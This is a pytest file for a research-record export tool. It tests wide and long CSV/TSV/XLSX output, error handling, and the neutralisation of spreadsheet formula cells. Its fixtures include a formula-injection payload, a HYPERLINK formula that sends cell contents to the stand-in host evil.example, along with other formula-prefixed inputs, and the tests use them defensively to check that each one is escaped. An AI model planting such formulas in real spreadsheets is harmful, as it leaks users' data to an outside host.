"""Spreadsheet tables from records: wide and long layouts, CSV/TSV/XLSX, formula cells neutralised."""
import csv
import json
import subprocess
import sys

import pytest

from extract.outputs.export import ExportError, Layout, describe, export_records, safe_cell
from extract.run.runner import RunConfig, run

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1, "click") We propose Foo. Code: https://github.com/a/b.'


def run_cli(*args, cwd):
    return subprocess.run([sys.executable, "-m", "extract", *args], cwd=cwd, capture_output=True, text=True,
                          timeout=600)


def read_csv(path, delimiter=","):
    with open(path, newline="", encoding="utf-8-sig") as fh:
        return list(csv.reader(fh, delimiter=delimiter))


@pytest.mark.parametrize("field, mention, text", [
    ("metrics", {"value": 76.0, "unit": "%", "metric": "pass rate", "dataset": "FormalMath-Lite"},
     "76.0% pass rate (FormalMath-Lite)"),
    ("metrics", {"value": 14.1, "unit": "%", "kind": "increase", "metric": "accuracy", "model": "LLaMA-3-8B",
                 "baseline": "GRPO"}, "+14.1% accuracy (LLaMA-3-8B, vs GRPO)"),
    ("metrics", {"value": 70.0, "unit": "%", "kind": "decrease", "qualifier": "more than"}, "more than -70.0%"),
    ("metrics", {"value": 14.95, "value_high": 50.82, "unit": "%"}, "14.95\u201350.82%"),
    ("metrics", {"value": 3.2, "unit": "pp", "metric": "F1"}, "3.2 pp F1"),
    ("metrics", {"value": 42.0, "unit": "°C"}, "42.0 °C"),
    ("speedups", {"factor": 12.2, "unit": "x", "aspect": "speedup", "qualifier": "up to",
                  "model": "LLaDA-8B-Instruct"}, "up to 12.2x speedup (LLaDA-8B-Instruct)"),
    ("speedups", {"percent": 21.74, "unit": "%", "aspect": "training steps"}, "21.74% training steps"),
    ("github", {"url": "https://github.com/a/b", "owner": "a", "repo": "b"}, "https://github.com/a/b"),
    ("methods", {"name": "CRPI", "role": "proposed", "long_form": "Cross-Step Residual Potential Initialization"},
     "CRPI (proposed)"),
    ("methods", {"name": "AdamW", "role": "other"}, "AdamW"),
    ("hardware", {"name": "H100", "vendor": "NVIDIA"}, "H100"),
])
def test_wide_cell_describes_a_mention(field, mention, text):
    assert describe(field, mention) == text


@pytest.mark.parametrize("value, cell", [
    ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'),
    ("+1 improvement", "'+1 improvement"),
    ("-5% error", "'-5% error"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("\uff1d1+1", "'\uff1d1+1"),
    ("BERT = strong", "BERT = strong"),
    ("", ""),
    (-3.5, -3.5),  # numbers stay numbers
    (12, 12),
    (None, None),
])
def test_formula_cells_are_neutralised(value, cell):
    assert safe_cell(value) == cell


RECORD = {
    "id": "r1", "source": "in.jsonl", "collection": None, "title": "Title, with comma\nand newline",
    "text": "...", "methods": [{"text": "Foo", "start": 0, "end": 3, "rule": "m.1", "name": "Foo",
                                "long_form": None, "role": "proposed"}],
    "models": [{"text": "LLaDA 8B", "start": 5, "end": 13, "rule": "models.x", "name": "LLaDA 8B",
                "family": "LLaDA", "size": "8B"}],
    "datasets": [], "speedups": [],
    "metrics": [{"text": "76.0%", "start": 20, "end": 25, "rule": "metrics.pct", "metric": "pass rate",
                 "value": 76.0, "value_high": None, "unit": "%", "kind": "absolute", "qualifier": None,
                 "dataset": "FormalMath-Lite", "model": None, "baseline": None}],
    "github": [{"text": "github.com/a/b", "start": 30, "end": 44, "rule": "github.url",
                "url": "https://github.com/a/b", "owner": "a", "repo": "b"}],
    "hardware": [{"text": "H100", "start": 50, "end": 54, "rule": "hardware.gpu", "name": "H100"}],
}


def test_wide_and_long_rows():
    wide = Layout("wide", ["methods", "models", "datasets", "metrics", "speedups", "github", "hardware"])
    row = dict(zip(wide.columns, wide.rows(RECORD)[0]))
    assert row["metrics"] == "76.0% pass rate (FormalMath-Lite)" and row["metrics_count"] == 1
    assert row["hardware"] == "H100" and row["datasets"] == "" and row["datasets_count"] == 0
    long = Layout("long", wide.fields)
    rows = [dict(zip(long.columns, r)) for r in long.rows(RECORD)]
    assert [(r["field"], r["name"]) for r in rows] == [
        ("methods", "Foo"), ("models", "LLaDA 8B"), ("metrics", "pass rate"),
        ("github", "https://github.com/a/b"), ("hardware", "H100")]
    assert rows[1]["details"] == "family=LLaDA; size=8B"
    assert (rows[2]["value"], rows[2]["unit"], rows[2]["dataset"], rows[2]["start"]) == (76.0, "%", "FormalMath-Lite", 20)


@pytest.mark.parametrize("suffix, delimiter", [(".csv", ","), (".tsv", "\t")])
@pytest.mark.parametrize("layout, n_rows", [("wide", 3), ("long", 15)])
def test_export_reads_back_with_csv_module(tmp_path, suffix, delimiter, layout, n_rows):
    src = tmp_path / "records.jsonl"
    src.write_text("".join(json.dumps({**RECORD, "id": f"r{i}"}) + "\n" for i in range(3)))
    out = tmp_path / f"out{suffix}"
    summary = export_records(str(src), str(out), layout)
    rows = read_csv(out, delimiter)
    assert len(rows) - 1 == n_rows == summary.rows
    assert rows[0][0] == "id" and "hardware" in rows[0] + [r[1] for r in rows[1:]]
    if layout == "wide":
        assert rows[1][3] == "Title, with comma\nand newline"


def test_bad_lines_are_reported_and_skipped(tmp_path):
    src = tmp_path / "records.jsonl"
    src.write_text(json.dumps(RECORD) + '\n{"id": "torn", "text": "x\n["list"]\n')
    problems = []
    summary = export_records(str(src), str(tmp_path / "o.csv"), "wide", report=problems.append)
    assert summary.records == 1 and summary.rejected == 2
    assert problems[0].startswith(f"{src}:2: not valid JSON") and problems[1].startswith(f"{src}:3: expected a record")


def test_a_field_missing_from_the_first_record_is_an_error(tmp_path):
    src = tmp_path / "records.jsonl"
    first = {k: v for k, v in RECORD.items() if k != "hardware"}
    src.write_text(json.dumps(first) + "\n" + json.dumps(RECORD) + "\n")
    with pytest.raises(ExportError, match=r"records.jsonl:2: field 'hardware' is not in the first record"):
        export_records(str(src), str(tmp_path / "o.csv"))


def test_xlsx_without_openpyxl_is_one_clear_error(tmp_path, monkeypatch):
    monkeypatch.setitem(sys.modules, "openpyxl", None)  # import fails as if not installed
    src = tmp_path / "records.jsonl"
    src.write_text(json.dumps(RECORD) + "\n")
    with pytest.raises(ExportError, match=r'XLSX needs openpyxl: pip install "\.\[xlsx\]"'):
        export_records(str(src), str(tmp_path / "o.xlsx"))


def test_unknown_suffix_is_an_error(tmp_path):
    with pytest.raises(ExportError, match=r"\.csv, \.tsv, \.xlsx or \.parquet"):
        export_records("x.jsonl", str(tmp_path / "o.ods"))


def _xlsx_cells(path):
    openpyxl = pytest.importorskip("openpyxl", reason="XLSX needs the xlsx extra")
    book = openpyxl.load_workbook(path)
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


@pytest.fixture(scope="module")
def hostile_records(tmp_path_factory, extractor):
    """Records of an abstract (and title, and id) that start with =HYPERLINK(...)."""
    tmp = tmp_path_factory.mktemp("hostile")
    src = tmp / "evil.jsonl"
    src.write_text(json.dumps({"id": "=1+1", "title": HOSTILE, "abstract": HOSTILE}) + "\n"
                   + json.dumps({"id": "ok", "title": "Fine", "abstract": "See https://github.com/c/d."}) + "\n")
    out = tmp / "records.jsonl"
    run(RunConfig(inputs=(str(src),), output=str(out)), extractor=extractor, report=print)
    return out


@pytest.mark.parametrize("suffix", [".csv", ".tsv", ".xlsx"])
@pytest.mark.parametrize("layout", ["wide", "long"])
def test_formula_abstract_yields_no_formula_cell(tmp_path, hostile_records, suffix, layout):
    if suffix == ".xlsx":
        pytest.importorskip("openpyxl", reason="XLSX needs the xlsx extra")
    out = tmp_path / f"out{suffix}"
    export_records(str(hostile_records), str(out), layout)
    if suffix == ".xlsx":
        cells = _xlsx_cells(out)
        assert cells and not [c.coordinate for c in cells if c.data_type == "f"]
        values = [c.value for c in cells if isinstance(c.value, str)]
    else:
        values = [v for row in read_csv(out, "\t" if suffix == ".tsv" else ",") for v in row]
    assert "'=1+1" in values
    assert not [v for v in values if v[:1] in ("=", "+", "-", "@", "\t", "\r")]
    if layout == "wide":
        assert "'" + HOSTILE in values


def test_export_command_and_custom_field_columns(tmp_path):
    rules = tmp_path / "rules"
    rules.mkdir()
    (rules / "hardware.yaml").write_text(
        "field: hardware\npatterns:\n  - id: hardware.gpu\n    regex: '\\b(?P<name>[AH]100)\\b'\n")
    src = tmp_path / "in.jsonl"
    src.write_text(json.dumps({"id": "a", "abstract": "Trained on 8 H100 GPUs; code at github.com/x/y."}) + "\n")
    records = tmp_path / "out.jsonl"
    assert run_cli("run", str(src), "-o", str(records), "--rules", str(rules), "-j1", cwd=tmp_path).returncode == 0
    proc = run_cli("export", str(records), "-o", str(tmp_path / "t.csv"), cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr
    assert "1 records exported as 1 rows" in proc.stderr
    header, row = read_csv(tmp_path / "t.csv")
    cells = dict(zip(header, row))
    assert cells["hardware"] == "H100" and cells["hardware_count"] == "1"
    assert cells["github"] == "https://github.com/x/y"
    direct = tmp_path / "direct.csv"
    assert run_cli("run", str(src), "-o", str(direct), "--rules", str(rules), "-j1", cwd=tmp_path).returncode == 0
    assert read_csv(direct) == [header, row]
